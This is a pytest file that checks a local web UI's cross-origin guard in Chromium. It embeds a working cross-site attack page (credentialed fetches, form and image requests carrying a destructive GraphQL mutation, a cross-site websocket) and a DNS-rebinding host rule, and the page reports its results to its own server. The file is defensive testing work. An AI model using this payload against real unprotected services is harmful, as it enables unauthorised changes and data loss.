"""The guard of the UI against a real browser: a page of another origin, which even knows the token, changes and reads
nothing; the same page does all of it where there is no guard. Needs Chromium or Chrome, and says so without one."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.request import urlopen

import psutil
import pytest
from websockets.sync.client import connect

from benchmarks.chromium import NAMES, OPTIONS
from tests.dagster_project.served import Served, served

# A name that leads to this machine, as an attacker's may.
REBOUND = "--host-resolver-rules=MAP rebound.test 127.0.0.1"
# Tries everything a page may; what it saw is sent to its own server once nothing can be under way any more.
ATTACK = """<!doctype html><title>attack</title><body><script>
const base = BASE, query = QUERY, body = JSON.stringify({query}), seen = {};
const get = base + '/graphql?query=' + encodeURIComponent(query);
const post = kind => ({method: 'POST', mode: 'no-cors', credentials: 'include', headers: {'Content-Type': kind}, body});
const trying = async (name, made) => { try { seen[name] = await made(); } catch (error) { seen[name] = 'blocked'; } };
const image = () => new Promise(done => {
  const made = new Image(); made.onload = made.onerror = () => done('sent'); made.src = get; });
const form = kind => new Promise(done => {
  const frame = document.createElement('iframe'), made = document.createElement('form');
  frame.name = kind; made.target = kind; made.method = 'POST'; made.enctype = kind; made.action = get;
  document.body.append(frame, made);
  frame.onload = () => done('sent'); made.submit(); });
const websocket = () => new Promise(done => {
  const made = new WebSocket(base.replace('http', 'ws') + '/graphql', 'graphql-ws');
  made.onopen = () => done('opened'); made.onerror = () => done('blocked'); });
const frame = () => new Promise(done => {
  const made = document.createElement('iframe'); made.onload = () => done('loaded'); made.src = base + '/';
  document.body.append(made); });
(async () => {
  await trying('read', async () => (await fetch(base + '/server_info')).text());
  await trying('get', async () => (await fetch(get, {mode: 'no-cors', credentials: 'include'})).type);
  await trying('plain', async () => (await fetch(get, post('text/plain'))).type);
  await trying('mention', async () => (await fetch(get, post('text/plain;application/json'))).type);
  await trying('json', async () => (await fetch(get, {...post('application/json'), mode: 'cors'})).text());
  await trying('image', image);
  await trying('form', () => form('application/x-www-form-urlencoded'));
  await trying('text form', () => form('text/plain'));
  await trying('websocket', websocket);
  await trying('frame', frame);
  await fetch('/seen', {method: 'POST', body: JSON.stringify(seen)});
})();
</script>"""


@pytest.fixture
def browser(tmp_path: Path) -> list[str]:
    """The start of a command line of Chromium."""
    found = next((path for name in NAMES if (path := shutil.which(name))), None)
    if found is None:
        pytest.skip("no Chromium or Chrome on PATH; install one, for example: apt-get install chromium")
    # Root has no sandbox.
    root = ["--no-sandbox"] if hasattr(os, "geteuid") and os.geteuid() == 0 else []
    return [found, *OPTIONS, REBOUND, *root, f"--user-data-dir={tmp_path / 'profile'}"]


@contextmanager
def page_of_another_origin(
    target: Served, attack: str = ATTACK
) -> Iterator[tuple[str, threading.Event, dict[str, str]]]:
    """(address of a page that attacks `target`, when it is through, what it saw)."""
    told, seen = threading.Event(), dict[str, str]()
    page = attack.replace("BASE", json.dumps(f"http://127.0.0.1:{target.port}{target.start}"))
    page = page.replace("QUERY", json.dumps(target.mutation))

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page.encode())

        def do_POST(self) -> None:
            seen.update(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()
            told.set()

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Page) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/", told, seen
        finally:
            server.shutdown()
            thread.join()


@contextmanager
def opened(browser: list[str], address: str) -> Iterator[None]:
    """A page kept open; its debugging port stands in the profile."""
    command = [*browser, "--remote-debugging-port=0", address]
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        yield
    finally:
        for one in [*psutil.Process(process.pid).children(recursive=True), process]:
            one.kill()
        process.wait()


def visit(browser: list[str], address: str, until: threading.Event) -> None:
    """Keep a page open until `until` is set."""
    with opened(browser, address):
        assert until.wait(240), "the page never came to its end"


def requested(profile: Path, address: str, at_last: str) -> list[str]:
    """Every address that a page asks for, from its first until one that contains `at_last`, and two seconds more."""
    told, found, deadline = profile / "DevToolsActivePort", list[str](), time.monotonic() + 240
    while not told.exists() or len(told.read_text().splitlines()) < 2:
        assert time.monotonic() < deadline
        time.sleep(0.05)
    port = told.read_text().splitlines()[0]
    with urlopen(f"http://127.0.0.1:{port}/json") as answer:
        [page] = [one for one in json.load(answer) if one["type"] == "page"]
    with connect(page["webSocketDebuggerUrl"], max_size=None, proxy=None) as devtools:
        for number, (method, options) in enumerate([("Network.enable", {}), ("Page.navigate", {"url": address})]):
            devtools.send(json.dumps({"id": number, "method": method, "params": options}))
        while time.monotonic() < deadline:
            try:
                event = json.loads(devtools.recv(timeout=0.5))
            except TimeoutError:
                continue
            if event.get("method") == "Network.requestWillBeSent":
                found.append(event["params"]["request"]["url"])
            elif event.get("method") == "Network.webSocketCreated":
                found.append(event["params"]["url"])
            if deadline > time.monotonic() + 2 and found and at_last in found[-1]:
                deadline = time.monotonic() + 2
    return found


def shown(browser: list[str], address: str) -> str:
    """The page as it stands once its scripts have run."""
    command = [*browser, "--virtual-time-budget=20000", "--dump-dom", address]
    ran = subprocess.run(command, capture_output=True, text=True, encoding="utf-8", timeout=300, check=True)
    return ran.stdout


def test_a_page_of_another_origin_changes_and_reads_nothing_even_with_the_token(browser: list[str]) -> None:
    with served(behind_guard=True) as ui, page_of_another_origin(ui) as (address, told, seen):
        visit(browser, address, told)
        assert ui.run_is_there
        assert {seen[name] for name in ("read", "json", "websocket")} == {"blocked"}
        assert {seen[name] for name in ("get", "plain", "mention")} <= {"opaque", "blocked"}
        assert seen["form"] == seen["text form"] == seen["image"] == "sent"


@pytest.mark.parametrize("kind", ["image", "form", "mention"])
def test_the_same_page_wipes_runs_where_there_is_no_guard(browser: list[str], kind: str) -> None:
    """One kind of request at a time, and a websocket: the attack is a real one."""
    kept = (f"'{kind}'", "'websocket'")
    tries = [line for line in ATTACK.splitlines() if "await trying(" not in line or any(one in line for one in kept)]
    with served(behind_guard=False) as bare, page_of_another_origin(bare, "\n".join(tries)) as (address, told, seen):
        visit(browser, address, told)
        assert not bare.run_is_there
        assert seen["websocket"] == "opened"


def test_a_name_that_leads_to_this_machine_shows_nothing(browser: list[str]) -> None:
    with served(behind_guard=True) as ui:
        assert "127.0.0.1 and localhost only" in shown(browser, f"http://rebound.test:{ui.port}{ui.start}/")
    with served(behind_guard=False) as bare:
        assert "Overview" in shown(browser, f"http://rebound.test:{bare.port}/")


def test_the_pages_themselves_work_and_fetch_nothing_from_elsewhere(browser: list[str], tmp_path: Path) -> None:
    with served(behind_guard=True) as ui:
        ours = f"http://127.0.0.1:{ui.port}{ui.start}"
        assert ui.run_id[:8] in shown(browser, f"{ours}/runs")
        with opened(browser, "about:blank"):
            found = requested(tmp_path / "profile", f"{ours}/runs/{ui.run_id}", at_last="ws://")
        assert any(one.startswith(f"{ours}/graphql") for one in found)
        assert f"ws{ours.removeprefix('http')}/graphql" in found
        starts = (f"http://127.0.0.1:{ui.port}/", f"ws://127.0.0.1:{ui.port}/", "data:", "blob:")
        assert [one for one in found if not one.startswith(starts)] == []
